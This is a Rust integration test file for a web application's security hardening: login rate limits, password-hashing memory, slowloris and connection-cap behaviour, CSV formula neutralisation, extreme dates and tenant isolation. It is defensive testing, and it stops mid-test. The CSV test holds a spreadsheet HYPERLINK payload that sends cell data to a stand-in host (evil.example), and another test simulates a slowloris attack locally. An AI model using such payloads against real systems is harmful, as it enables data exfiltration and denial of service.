//! Security hardening over real HTTP against the real binary: the login
//! limits under concurrency, the bounded password checks and their memory,
//! connection timeouts and the connection cap, formula injection in CSV
//! files, extreme dates, the organisation boundary, and small HTTP rules
//! (404 for impossible static paths, no-store, HSTS, 405, the OpenAPI
//! document, months the reports refuse).

mod common;

use std::time::{Duration, Instant};

use common::{client, Server, Session};
use reqwest::header::{CACHE_CONTROL, CONTENT_TYPE, COOKIE, RETRY_AFTER};
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use uuid::Uuid;

const FAST: &str = "--insecure-fast-hashing";
const PUSH: &str = "/api/sync/push?protocol=4";

/// Taken by the tests that measure time or memory, so that they do not run
/// beside each other (the memory test keeps both cores busy hashing).
static MEASURING: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());

/// The caller's whole view (a snapshot pull), whichever protocol the
/// server speaks.
async fn snapshot(session: &Session) -> Value {
    let (status, body) = session.get_json("/api/sync/pull?since=0&protocol=4").await;
    let (status, body) = if status == 400 {
        session.get_json("/api/sync/pull?since=0").await
    } else {
        (status, body)
    };
    assert_eq!(status, 200, "{body}");
    body["snapshot"].clone()
}

/// Pushes one command and returns its result (`{"status": …}`).
async fn push(session: &Session, command: Value) -> Value {
    let (status, body) = session
        .post_json(
            PUSH,
            &json!({"commands": [{"id": Uuid::new_v4(), "command": command}]}),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    body["results"][0].clone()
}

fn id_of(state: &Value, section: &str, table: &str, matches: impl Fn(&Value) -> bool) -> String {
    state[section][table]
        .as_object()
        .unwrap_or_else(|| panic!("{section}.{table}"))
        .iter()
        .find(|(_, v)| matches(v))
        .map(|(id, _)| id.clone())
        .unwrap_or_else(|| panic!("nothing in {section}.{table} fits"))
}

fn person_id(state: &Value, username: &str) -> String {
    id_of(state, "directory", "people", |p| p["username"] == username)
}

async fn login_status(server: &Server, username: &str, password: &str) -> reqwest::Response {
    client()
        .post(server.url("/api/auth/login"))
        .json(&json!({"username": username, "password": password}))
        .send()
        .await
        .expect("login request")
}

// ---------------------------------------------------------------- logins

#[tokio::test]
async fn a_burst_of_fifty_wrong_logins_checks_at_most_five_passwords() {
    let server = Server::start(&[FAST, "--demo"]);
    let attempts = (0..50).map(|_| login_status(&server, "giulia", "wrong guess"));
    let answers = futures_util::future::join_all(attempts).await;
    let mut verified = 0;
    let mut limited = 0;
    for answer in answers {
        match answer.status().as_u16() {
            401 => verified += 1,
            429 => {
                let retry: u64 = answer.headers()[RETRY_AFTER]
                    .to_str()
                    .expect("ascii")
                    .parse()
                    .expect("seconds");
                assert!((1..=60).contains(&retry), "{retry}");
                let body: Value = answer.json().await.expect("JSON");
                assert_eq!(body["error"], "too_many_attempts");
                limited += 1;
            }
            other => panic!("unexpected {other}"),
        }
    }
    println!("burst of 50 wrong logins: {verified} checked (401), {limited} refused (429)");
    assert!((1..=5).contains(&verified), "{verified} passwords checked");
    assert_eq!(verified + limited, 50);
    let failures = server.log_text().matches("failed login").count();
    assert_eq!(
        failures, verified,
        "one logged failure per checked password"
    );
    // The right password is refused too while the limit holds…
    assert_eq!(
        login_status(&server, "giulia", common::DEMO_PASSWORD)
            .await
            .status(),
        429
    );
    // …but nobody else behind the same address is locked out.
    assert_eq!(
        login_status(&server, "marco", common::DEMO_PASSWORD)
            .await
            .status(),
        200
    );
}

#[tokio::test]
async fn forwarded_addresses_count_only_behind_trusted_proxies() {
    async fn from(server: &Server, forwarded: &str, password: &str) -> u16 {
        client()
            .post(server.url("/api/auth/login"))
            .header("x-forwarded-for", forwarded)
            .json(&json!({"username": "giulia", "password": password}))
            .send()
            .await
            .expect("login")
            .status()
            .as_u16()
    }
    // Behind a trusted proxy each client counts under its own address: one
    // guesser does not lock the account's owner out from their desk.
    let server = Server::start(&[FAST, "--demo", "--trusted-proxies", "10.9.9.9,127.0.0.0/8"]);
    for _ in 0..5 {
        assert_eq!(from(&server, "203.0.113.66", "guess").await, 401);
    }
    assert_eq!(from(&server, "203.0.113.66", "guess").await, 429);
    assert_eq!(
        from(&server, "198.51.100.7", common::DEMO_PASSWORD).await,
        200
    );
    // From anyone else the header is ignored: it cannot buy new attempts.
    let server = Server::start(&[FAST, "--demo"]);
    for i in 0..5 {
        assert_eq!(from(&server, &format!("203.0.113.{i}"), "guess").await, 401);
    }
    assert_eq!(from(&server, "203.0.113.99", "guess").await, 429);
}

// ---------------------------------------------------------------- memory

/// The resident memory of a process, in bytes.
fn rss(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("status");
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
        .expect("VmRSS")
        * 1024
}

const MB: u64 = 1024 * 1024;

/// The resident size once it stops moving: two readings half a second
/// apart within 1 MB of each other (or whatever it is after 10 s).
async fn settled_rss(pid: u32) -> u64 {
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut last = rss(pid);
    loop {
        tokio::time::sleep(Duration::from_millis(500)).await;
        let now = rss(pid);
        if now.abs_diff(last) < MB || Instant::now() > deadline {
            return now;
        }
        last = now;
    }
}

#[tokio::test]
async fn two_hundred_concurrent_logins_stay_under_the_memory_budget_and_give_it_back() {
    let _alone = MEASURING.lock().await;
    // Real argon2 parameters (19 MiB a check) for the accounts attacked.
    let server = Server::start(&["--demo"]);
    let pid = server.child.id();
    // Warm up (the decoy hash, the first blocking threads), then wait for
    // the resident size to settle (the trimmer runs within two seconds).
    let _ = login_status(&server, "nobody-warm-up", "x").await;
    let before = settled_rss(pid).await;

    let peak = std::sync::Arc::new(std::sync::atomic::AtomicU64::new(before));
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let sampler = {
        let (peak, stop) = (peak.clone(), stop.clone());
        std::thread::spawn(move || {
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                peak.fetch_max(rss(pid), std::sync::atomic::Ordering::Relaxed);
                std::thread::sleep(Duration::from_millis(10));
            }
        })
    };
    let real = ["giulia", "marco", "sara", "admin", "francesca", "roberto"];
    let attempts = (0..200).map(|i| {
        let username = if i % 2 == 0 {
            real[(i / 2) % real.len()].to_string()
        } else {
            format!("nobody{i}")
        };
        let server = &server;
        async move {
            login_status(server, &username, "wrong guess")
                .await
                .status()
                .as_u16()
        }
    });
    let statuses = futures_util::future::join_all(attempts).await;
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    sampler.join().expect("sampler");
    let peak = peak.load(std::sync::atomic::Ordering::Relaxed);
    let count = |code| statuses.iter().filter(|s| **s == code).count();
    assert_eq!(count(401) + count(429) + count(503), 200, "{statuses:?}");
    assert!(count(401) > 0);

    // Wait for the memory to come back, up to a deadline.
    let deadline = Instant::now() + Duration::from_secs(20);
    let mut after = rss(pid);
    while after > before + 20 * MB && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(200)).await;
        after = rss(pid);
    }
    println!(
        "200 concurrent wrong logins: {} checked, {} limited, {} busy; RSS before {} MB, peak {} MB, after {} MB",
        count(401),
        count(429),
        count(503),
        before / MB,
        peak / MB,
        after / MB
    );
    assert!(peak < 200 * MB, "peak RSS {} MB", peak / MB);
    assert!(
        after <= before + 20 * MB,
        "RSS {} MB after, {} MB before",
        after / MB,
        before / MB
    );
    // Still answering.
    assert_eq!(
        client()
            .get(server.url("/api/health"))
            .send()
            .await
            .expect("health")
            .status(),
        200
    );
}

// ---------------------------------------------------------------- connections

fn address(server: &Server) -> String {
    server.base.trim_start_matches("http://").to_string()
}

/// Reads until the server closes the connection (or `limit` passes);
/// returns what was read and when it closed.
async fn read_until_closed(stream: &mut TcpStream, limit: Duration) -> (Vec<u8>, Option<Instant>) {
    let mut all = Vec::new();
    let mut buf = [0u8; 4096];
    let deadline = Instant::now() + limit;
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        match tokio::time::timeout(left, stream.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => return (all, Some(Instant::now())),
            Ok(Ok(n)) => all.extend_from_slice(&buf[..n]),
            Err(_) => return (all, None),
        }
    }
}

#[tokio::test]
async fn slowloris_connections_are_cut_at_the_header_timeout_while_health_answers_fast() {
    let _alone = MEASURING.lock().await;
    const HEADER_TIMEOUT: u64 = 2;
    let server = Server::start(&[
        FAST,
        "--header-timeout-secs",
        "2",
        "--idle-timeout-secs",
        "30",
    ]);
    let addr = address(&server);
    let mut slow = Vec::new();
    for i in 0..300 {
        let addr = addr.clone();
        slow.push(tokio::spawn(async move {
            let stream = TcpStream::connect(&addr).await.expect("connect");
            let started = Instant::now();
            let (mut reader, mut writer) = stream.into_split();
            let head = format!("GET /api/health HTTP/1.1\r\nHost: x\r\nX-Slow-{i}: ");
            writer.write_all(head.as_bytes()).await.expect("head");
            // A byte now and then, never the end of the headers.
            let trickle = async move {
                loop {
                    tokio::time::sleep(Duration::from_millis(300)).await;
                    if writer.write_all(b"a").await.is_err() {
                        break;
                    }
                }
                std::future::pending::<()>().await
            };
            let closed = async move {
                let mut buf = [0u8; 1024];
                while let Ok(n) = reader.read(&mut buf).await {
                    if n == 0 {
                        break;
                    }
                }
            };
            tokio::select! {
                () = closed => {}
                () = trickle => {}
                () = tokio::time::sleep(Duration::from_secs(HEADER_TIMEOUT + 20)) => {}
            }
            started.elapsed()
        }));
    }
    // Health checks meanwhile, from a thread of their own (the slow
    // clients' tasks must not delay the measuring side), on one keep-alive
    // connection, while the slow connections are still open.
    let health_addr = addr.clone();
    let checker = std::thread::spawn(move || {
        use std::io::{Read, Write};
        std::thread::sleep(Duration::from_millis(200));
        let mut stream = std::net::TcpStream::connect(&health_addr).expect("connect");
        stream.set_nodelay(true).expect("nodelay");
        let mut latencies = Vec::new();
        for _ in 0..15 {
            let t = Instant::now();
            stream
                .write_all(b"GET /api/health HTTP/1.1\r\nHost: x\r\n\r\n")
                .expect("request");
            let mut answer = Vec::new();
            let mut buf = [0u8; 4096];
            // The body is one small JSON object: read until it is complete.
            while !answer.ends_with(b"}") {
                let n = stream.read(&mut buf).expect("answer");
                assert!(n > 0, "closed");
                answer.extend_from_slice(&buf[..n]);
            }
            latencies.push(t.elapsed());
            assert!(answer.starts_with(b"HTTP/1.1 200"));
            std::thread::sleep(Duration::from_millis(90));
        }
        latencies
    });
    let mut latencies = checker.join().expect("health checker");
    let mut closed_after = Vec::new();
    for task in slow {
        closed_after.push(task.await.expect("slow client"));
    }
    latencies.sort();
    closed_after.sort();
    let p90 = latencies[latencies.len() * 9 / 10];
    println!(
        "300 slowloris connections: closed after {:?} (first) … {:?} (last); health median {:?}, p90 {:?}, max {:?}",
        closed_after[0],
        closed_after[closed_after.len() - 1],
        latencies[latencies.len() / 2],
        p90,
        latencies[latencies.len() - 1]
    );
    let limit = Duration::from_millis(HEADER_TIMEOUT * 1000 + 1500);
    assert!(
        closed_after.iter().all(|d| *d <= limit),
        "a slow connection lived {:?}",
        closed_after[closed_after.len() - 1]
    );
    assert!(
        latencies.iter().all(|l| *l < Duration::from_millis(50)),
        "health took {latencies:?}"
    );
}

#[tokio::test]
async fn silent_and_idle_connections_are_closed_and_stalled_bodies_answered() {
    let _alone = MEASURING.lock().await;
    let server = Server::start(&[FAST, "--idle-timeout-secs", "2", "--body-timeout-secs", "1"]);
    let addr = address(&server);
    // A connection that never sends a byte.
    let mut silent = TcpStream::connect(&addr).await.expect("connect");
    let opened = Instant::now();
    let (_, closed) = read_until_closed(&mut silent, Duration::from_secs(8)).await;
    let lived = closed.expect("closed") - opened;
    assert!(
        lived >= Duration::from_millis(1900) && lived < Duration::from_secs(4),
        "{lived:?}"
    );

    // A keep-alive connection after its request.
    let mut idle = TcpStream::connect(&addr).await.expect("connect");
    idle.write_all(b"GET /api/health HTTP/1.1\r\nHost: x\r\n\r\n")
        .await
        .expect("request");
    let answered = Instant::now();
    let (answer, closed) = read_until_closed(&mut idle, Duration::from_secs(8)).await;
    assert!(String::from_utf8_lossy(&answer).starts_with("HTTP/1.1 200"));
    let lived = closed.expect("closed") - answered;
    assert!(lived < Duration::from_secs(4), "{lived:?}");

    // A hundred bodies that stop half way are answered, not waited for.
    let mut stalled = Vec::new();
    for _ in 0..100 {
        let addr = addr.clone();
        stalled.push(tokio::spawn(async move {
            let mut stream = TcpStream::connect(&addr).await.expect("connect");
            stream
                .write_all(
                    b"POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
Content-Length: 100\r\n\r\n{\"username\":",
                )
                .await
                .expect("half a body");
            // Answered well before the idle timeout would close it.
            let (answer, _) = read_until_closed(&mut stream, Duration::from_millis(1900)).await;
            String::from_utf8_lossy(&answer).to_string()
        }));
    }
    for task in stalled {
        let answer = task.await.expect("stalled client");
        assert!(
            answer.starts_with("HTTP/1.1 400") || answer.starts_with("HTTP/1.1 408"),
            "{answer}"
        );
        assert!(answer.contains("application/json"), "{answer}");
    }
}

#[tokio::test]
async fn past_the_connection_cap_new_connections_are_refused_and_open_ones_work() {
    let _alone = MEASURING.lock().await;
    let server = Server::start(&[FAST, "--max-connections", "20", "--idle-timeout-secs", "30"]);
    let addr = address(&server);
    let mut held = Vec::new();
    for _ in 0..20 {
        held.push(TcpStream::connect(&addr).await.expect("connect"));
    }
    // Give the server time to take them all (it accepts in order anyway).
    tokio::time::sleep(Duration::from_millis(300)).await;
    let mut extra = TcpStream::connect(&addr).await.expect("connect");
    let asked = Instant::now();
    let (answer, closed) = read_until_closed(&mut extra, Duration::from_secs(5)).await;
    assert!(closed.is_some(), "closed at once");
    assert!(asked.elapsed() < Duration::from_secs(1));
    let answer = String::from_utf8_lossy(&answer);
    assert!(
        answer.is_empty() || answer.starts_with("HTTP/1.1 503"),
        "{answer}"
    );

    // Those already in keep working.
    let mut first = held.remove(0);
    first
        .write_all(b"GET /api/health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        .await
        .expect("request");
    let (answer, _) = read_until_closed(&mut first, Duration::from_secs(5)).await;
    assert!(String::from_utf8_lossy(&answer).starts_with("HTTP/1.1 200"));

    // Places freed are taken again.
    held.truncate(5);
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let response = client().get(server.url("/api/health")).send().await;
        if response.is_ok_and(|r| r.status() == 200) {
            break;
        }
        assert!(Instant::now() < deadline, "no place freed");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

// ---------------------------------------------------------------- CSV

fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("BOM");
    csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(text)
        .records()
        .map(|r| r.expect("CSV").iter().map(str::to_string).collect())
        .collect()
}

fn assert_no_formula(cells: &[Vec<String>]) {
    for cell in cells.iter().flatten() {
        let plain_number = cell
            .strip_prefix('-')
            .is_some_and(|n| !n.is_empty() && n.chars().all(|c| c.is_ascii_digit() || c == ','));
        assert!(
            plain_number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would evaluate: {cell:?}"
        );
    }
}

#[tokio::test]
async fn csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised() {
    const LEAK: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A2;\"Click\")";
    let server = Server::start(&[FAST, "--demo"]);
    // The trainer's attendee list: giulia attended the demo's past session.
    let giulia = server.login("giulia").await;
    let state = snapshot(&giulia).await;
    let past = id_of(&state, "webinars", "sessions", |s| {
        s["title"] == "Introduzione al lavoro agile: accordo individuale e regole"
    });
    let result = push(
        &giulia,
        json!({"area": "webinars", "type": "give_feedback", "session": past, "rating": 1, "comment": LEAK}),
    )
    .await;
    assert_eq!(result["status"], "accepted", "{result}");
    let sara = server.login("sara").await;
    let response = sara
        .get(&format!("/api/webinars/{past}/attendees.csv"))
        .await;
    assert_eq!(response.status(), 200);
    let cells = csv_cells(&response.bytes().await.expect("body"));
    assert!(
        cells.iter().flatten().any(|c| *c == format!("'{LEAK}")),
        "{cells:?}"
    );
    assert_no_formula(&cells);

    // The monitoring: teams named like formulas.
    let admin = server.login("admin").await;
    let state = snapshot(&admin).await;
    let teams: Vec<(String, Value)> = state["directory"]["teams"]
        .as_object()
        .expect("teams")
        .iter()
        .map(|(id, t)| (id.clone(), t.clone()))
        .take(3)
        .collect();
    let names = ["=1+2 Tributi", "@SUM(A1:A9)", "+39 Anagrafe"];
    for ((id, team), name) in teams.iter().zip(names) {
        let result = push(
            &admin,
            json!({"area": "directory", "type": "save_team", "id": id, "name": name,
                   "min_office": team["min_office"], "max_agile_share": team["max_agile_share"]}),
        )
        .await;
        assert_eq!(result["status"], "accepted", "{result}");
    }
    let month = chrono::Utc::now().format("%Y-%m").to_string();
    let response = admin.get(&format!("/api/reports/{month}/teams.csv")).await;
    assert_eq!(response.status(), 200);
    let cells = csv_cells(&response.bytes().await.expect("body"));
    for name in names {
        assert!(
            cells.iter().any(|row| row[0] == format!("'{name}")),
            "{name} in {cells:?}"
        );
    }
    assert_no_formula(&cells);
}

// ---------------------------------------------------------------- dates

#[tokio::test]
async fn extreme_dates_are_refused_never_a_closed_connection() {
    let server = Server::start(&[FAST, "--demo"]);
    let giulia = server.login("giulia").await;
    let admin = server.login("admin").await;
    let sara = server.login("sara").await;
    let state = snapshot(&admin).await;
    let giulia_id = person_id(&state, "giulia");
    let team = state["directory"]["people"][&giulia_id]["team"].clone();
    let agreement = state["directory"]["agreements"]
        .as_object()
        .expect("agreements")
        .values()
        .find(|a| a["person"] == giulia_id.as_str())
        .expect("giulia's agreement")
        .clone();
    let sara_id = person_id(&state, "sara");

    for far in [
        "9999-12-31",
        "1000-01-01",
        "0001-01-01",
        "2200-01-01",
        "1999-12-31",
    ] {
        let mut extended = agreement.clone();
        extended["valid_until"] = json!(far);
        let cases: Vec<(&Session, Value)> = vec![
            (
                &giulia,
                json!({"area": "agile", "type": "request_days", "id": Uuid::new_v4(),
                "days": {"kind": "dates", "dates": [far]}, "mode": "agile", "place": {"kind": "home"}}),
            ),
            (
                &giulia,
                json!({"area": "agile", "type": "request_days", "id": Uuid::new_v4(),
                "days": {"kind": "weekly", "weekdays": ["Tue"], "from": far, "until": far},
                "mode": "agile", "place": {"kind": "home"}}),
            ),
            (
                &giulia,
                json!({"area": "agile", "type": "record_absence", "id": Uuid::new_v4(),
                "person": giulia_id, "from": far, "until": far, "kind": "holiday"}),
            ),
            (
                &giulia,
                json!({"area": "agile", "type": "log_activity", "date": far, "objectives": []}),
            ),
            (
                &giulia,
                json!({"area": "agile", "type": "cancel_range", "from": far, "until": far}),
            ),
            (
                &giulia,
                json!({"area": "objectives", "type": "save_objective", "id": Uuid::new_v4(),
                "owner": {"kind": "person", "id": giulia_id}, "period": {"from": far, "until": far},
                "title": "Lontano", "weight": 10, "key_results": []}),
            ),
            (
                &admin,
                json!({"area": "directory", "type": "add_office_only_date", "team": team,
                "date": far, "note": ""}),
            ),
            (
                &admin,
                json!({"area": "directory", "type": "save_agreement", "agreement": extended}),
            ),
            (
                &admin,
                json!({"area": "directory", "type": "withdraw_agreement",
                "id": agreement["id"], "effective": far}),
            ),
            (
                &sara,
                json!({"area": "webinars", "type": "save_session", "id": Uuid::new_v4(),
                "title": "Fuori dal tempo", "trainers": [sara_id],
                "start": format!("{far}T09:00:00Z"), "end": format!("{far}T10:00:00Z"),
                "capacity": 10, "join_link": "https://meet.example.it/x",
                "audience": {"kind": "partnership"}}),
            ),
        ];
        for (who, command) in cases {
            let result = push(who, command.clone()).await;
            assert_eq!(result["status"], "rejected", "{command} → {result}");
            assert_eq!(
                result["rejection"]["code"], "invalid",
                "{command} → {result}"
            );
            assert_eq!(result["rejection"]["problem"], "out_of_range", "{result}");
        }
    }
    // Years chrono barely holds: refused as a body (422) or per command,
    // never a dropped connection.
    let raw = json!({"commands": [{"id": Uuid::new_v4(), "command": {
        "area": "webinars", "type": "save_session", "id": Uuid::new_v4(),
        "title": "Anno 262142", "trainers": [sara_id],
        "start": "+262142-12-31T09:00:00Z", "end": "+262142-12-31T10:00:00Z",
        "capacity": 10, "join_link": "https://meet.example.it/x",
        "audience": {"kind": "partnership"}}}]});
    let (status, body) = sara.post_json(PUSH, &raw).await;
    assert!(
        status == 422 || (status == 200 && body["results"][0]["rejection"]["code"] == "invalid"),
        "{status} {body}"
    );
    // And everything still answers, the calendar files too.
    assert_eq!(giulia.get("/api/calendar.ics").await.status(), 200);
    assert_eq!(sara.get("/api/calendar.ics").await.status(), 200);
}

// ---------------------------------------------------------------- organisations

#[tokio::test]
async fn another_organisation_s_records_do_not_exist_for_its_neighbours() {
    let server = Server::start(&[FAST, "--demo"]);
    let giulia = server.login("giulia").await;
    let admin = server.login("admin").await;
    let provincia = snapshot(&admin).await;
    let giulia_id = person_id(&provincia, "giulia");

    // A private draft: only giulia (and her own administrators) know it.
    let draft = Uuid::new_v4().to_string();
    let result = push(
        &giulia,
        json!({"area": "objectives", "type": "save_objective", "id": draft,
               "owner": {"kind": "person", "id": giulia_id},
               "period": {"from": "2026-01-01", "until": "2026-12-31"},
               "title": "Bozza privata", "weight": 10, "key_results": []}),
    )
    .await;
    assert_eq!(result["status"], "accepted", "{result}");
    let provincia = snapshot(&admin).await;

    let agreed = provincia["objectives"]["objectives"]
        .as_object()
        .expect("objectives")
        .iter()
        .find(|(_, o)| o["status"] != "draft")
        .map(|(id, _)| id.clone())
        .expect("a shared objective");
    let team = id_of(&provincia, "directory", "teams", |_| true);
    let request = id_of(&provincia, "agile", "requests", |_| true);
    let agreement = id_of(&provincia, "directory", "agreements", |_| true);
    let own_session = id_of(&provincia, "webinars", "sessions", |s| {
        s["audience"]["kind"] != "partnership"
    });
    let absence = provincia["agile"]["absences"]
        .as_object()
        .and_then(|a| a.keys().next().cloned());

    let rovereto = server.login("admin.rovereto").await;
    let theirs = snapshot(&rovereto).await;
    let own_person = person_id(&theirs, "irene");
    let org = provincia["directory"]["people"][&giulia_id]["org"].clone();

    // Each command once with the Provincia's id and once with a random one.
    type Make = Box<dyn Fn(&str) -> Value>;
    let p = giulia_id.clone();
    let own = own_person.clone();
    let mut cases: Vec<(&str, String, Make)> = vec![
        (
            "review draft",
            draft.clone(),
            Box::new(
                |id| json!({"area": "objectives", "type": "review", "objective": id, "rating": 3}),
            ),
        ),
        (
            "agree draft",
            draft.clone(),
            Box::new(|id| json!({"area": "objectives", "type": "agree", "objective": id})),
        ),
        (
            "propose draft",
            draft.clone(),
            Box::new(|id| json!({"area": "objectives", "type": "propose", "objective": id})),
        ),
        (
            "delete draft",
            draft.clone(),
            Box::new(|id| json!({"area": "objectives", "type": "delete", "objective": id})),
        ),
        (
            "review",
            agreed.clone(),
            Box::new(
                |id| json!({"area": "objectives", "type": "review", "objective": id, "rating": 3}),
            ),
        ),
        (
            "agree",
            agreed.clone(),
            Box::new(|id| json!({"area": "objectives", "type": "agree", "objective": id})),
        ),
        (
            "send back",
            agreed.clone(),
            Box::new(
                |id| json!({"area": "objectives", "type": "send_back", "objective": id, "comment": "no"}),
            ),
        ),
        (
            "start",
            agreed.clone(),
            Box::new(|id| json!({"area": "objectives", "type": "start", "objective": id})),
        ),
        (
            "close",
            agreed.clone(),
            Box::new(
                |id| json!({"area": "objectives", "type": "close", "objective": id, "outcome": "achieved"}),
            ),
        ),
        (
            "log activity",
            agreed.clone(),
            Box::new(
                |id| json!({"area": "agile", "type": "log_activity", "date": "2026-11-24", "objectives": [id]}),
            ),
        ),
        (
            "decide days",
            request.clone(),
            Box::new(
                |id| json!({"area": "agile", "type": "decide_days", "request": id, "decision": "approve"}),
            ),
        ),
        (
            "cancel days",
            request.clone(),
            Box::new(|id| json!({"area": "agile", "type": "cancel_days", "request": id})),
        ),
        (
            "record absence",
            p.clone(),
            Box::new(
                |id| json!({"area": "agile", "type": "record_absence", "id": Uuid::new_v4(), "person": id, "from": "2026-12-01", "until": "2026-12-02", "kind": "holiday"}),
            ),
        ),
        (
            "set commute",
            p.clone(),
            Box::new(
                |id| json!({"area": "directory", "type": "set_commute", "person": id, "km": 3}),
            ),
        ),
        (
            "set active",
            p.clone(),
            Box::new(
                |id| json!({"area": "directory", "type": "set_active", "person": id, "active": false}),
            ),
        ),
        (
            "set team leads",
            team.clone(),
            Box::new(
                |id| json!({"area": "directory", "type": "set_team_leads", "team": id, "leads": []}),
            ),
        ),
        (
            "set min office",
            team.clone(),
            Box::new(
                |id| json!({"area": "directory", "type": "set_min_office", "team": id, "min_office": {"kind": "people", "value": 1}}),
            ),
        ),
        (
            "add office-only date",
            team.clone(),
            Box::new(
                |id| json!({"area": "directory", "type": "add_office_only_date", "team": id, "date": "2026-12-01", "note": ""}),
            ),
        ),
        (
            "remove office-only date",
            team.clone(),
            Box::new(
                |id| json!({"area": "directory", "type": "remove_office_only_date", "team": id, "date": "2026-12-01"}),
            ),
        ),
        (
            "withdraw agreement",
            agreement.clone(),
            Box::new(
                |id| json!({"area": "directory", "type": "withdraw_agreement", "id": id, "effective": "2027-06-01"}),
            ),
        ),
        (
            "cancel session",
            own_session.clone(),
            Box::new(|id| json!({"area": "webinars", "type": "cancel_session", "id": id})),
        ),
        (
            "register",
            own_session.clone(),
            Box::new(|id| json!({"area": "webinars", "type": "register", "session": id})),
        ),
        (
            "give feedback",
            own_session.clone(),
            Box::new(
                |id| json!({"area": "webinars", "type": "give_feedback", "session": id, "rating": 5}),
            ),
        ),
        (
            "mark attendance",
            own_session.clone(),
            Box::new(
                move |id| json!({"area": "webinars", "type": "mark_attendance", "session": id, "person": own, "present": true}),
            ),
        ),
        (
            "path of a session",
            own_session.clone(),
            Box::new(
                |id| json!({"area": "webinars", "type": "save_path", "id": Uuid::new_v4(), "title": "Percorso", "sessions": [id]}),
            ),
        ),
        (
            "the organisation",
            org.as_str().expect("org id").to_string(),
            Box::new(
                |id| json!({"area": "directory", "type": "update_organisation", "name": "Presa", "extra_holidays": [], "org": id}),
            ),
        ),
    ];
    if let Some(absence) = absence {
        cases.push((
            "cancel absence",
            absence,
            Box::new(|id| json!({"area": "agile", "type": "cancel_absence", "id": id})),
        ));
    }
    let mut failures = Vec::new();
    for (name, id, make) in &cases {
        let real = push(&rovereto, make(id)).await;
        let random = Uuid::new_v4().to_string();
        let fake = push(&rovereto, make(&random)).await;
        let code = |r: &Value| {
            r["rejection"]["code"]
                .as_str()
                .unwrap_or("accepted")
                .to_string()
        };
        if code(&real) != "not_found" || code(&fake) != "not_found" {
            failures.push(format!("{name}: {real} / random {fake}"));
            continue;
        }
        let mut real_rejection = real["rejection"].clone();
        let mut fake_rejection = fake["rejection"].clone();
        real_rejection["id"] = json!(null);
        fake_rejection["id"] = json!(null);
        if real_rejection != fake_rejection {
            failures.push(format!("{name}: {real_rejection} ≠ {fake_rejection}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    // Nothing changed in the Provincia.
    let after = snapshot(&admin).await;
    assert_eq!(after["objectives"], provincia["objectives"]);
    assert_eq!(after["directory"]["teams"], provincia["directory"]["teams"]);
}

// ---------------------------------------------------------------- small ones

#[tokio::test]
async fn small_http_rules() {
    let server = Server::start(&[FAST, "--demo"]);
    let http = client();

    // An impossible file name is a 404, not a 500.
    for path in [
        format!("/{}", "a".repeat(256)),
        format!("/{}.js", "b".repeat(300)),
    ] {
        let response = http.get(server.url(&path)).send().await.expect("GET");
        assert_eq!(response.status(), 404, "{path}");
        let body: Value = response.json().await.expect("JSON");
        assert_eq!(body["error"], "not_found");
    }

    // Personal answers are never stored by any cache.
    let giulia = server.login("giulia").await;
    let pull = if giulia
        .get("/api/sync/pull?since=0&protocol=4")
        .await
        .status()
        == 200
    {
        "/api/sync/pull?since=0&protocol=4"
    } else {
        "/api/sync/pull?since=0"
    };
    for path in ["/api/me", pull, "/api/calendar/feed"] {
        let response = giulia.get(path).await;
        assert_eq!(response.status(), 200, "{path}");
        let cache = response
            .headers()
            .get(CACHE_CONTROL)
            .map(|v| v.to_str().expect("ascii").to_string())
            .unwrap_or_default();
        assert!(cache.contains("no-store"), "{path}: {cache:?}");
    }

    // Methods a route does not declare are 405, whatever the content type.
    for (method, path) in [
        (reqwest::Method::DELETE, "/api/me"),
        (reqwest::Method::POST, "/api/me"),
        (reqwest::Method::PUT, "/api/sync/pull"),
        (reqwest::Method::PATCH, "/api/auth/login"),
    ] {
        let response = http
            .request(method.clone(), server.url(path))
            .header(COOKIE, &giulia.cookie)
            .header(CONTENT_TYPE, "text/plain")
            .body("x")
            .send()
            .await
            .expect("request");
        assert_eq!(response.status(), 405, "{method} {path}");
        let body: Value = response.json().await.expect("JSON");
        assert_eq!(body["error"], "method_not_allowed");
    }

    // No HSTS over plain HTTP; always with `--secure-cookies` (HTTPS).
    let plain = http
        .get(server.url("/api/health"))
        .send()
        .await
        .expect("GET");
    assert!(plain.headers().get("strict-transport-security").is_none());
    let secure = Server::start(&[FAST, "--secure-cookies"]);
    for path in ["/api/health", "/"] {
        let response = http.get(secure.url(path)).send().await.expect("GET");
        let hsts = response.headers()["strict-transport-security"]
            .to_str()
            .expect("ascii")
            .to_string();
        assert!(hsts.starts_with("max-age="), "{hsts}");
    }

    // Months the domain does not know are refused by the reports.
    let admin = server.login("admin").await;
    for month in ["0000-01", "9999-12", "1999-12"] {
        let (status, body) = admin
            .get_json(&format!("/api/reports/{month}/teams.csv"))
            .await;
        assert_eq!(status, 400, "{month}: {body}");
        assert_eq!(body["error"], "bad_request");
    }

    // The OpenAPI document lists the 413/415/422 of the routes with bodies.
    let document: Value = http
        .get(server.url("/api/openapi.json"))
        .send()
        .await
        .expect("openapi")
        .json()
        .await
        .expect("JSON");
    for (path, method) in [
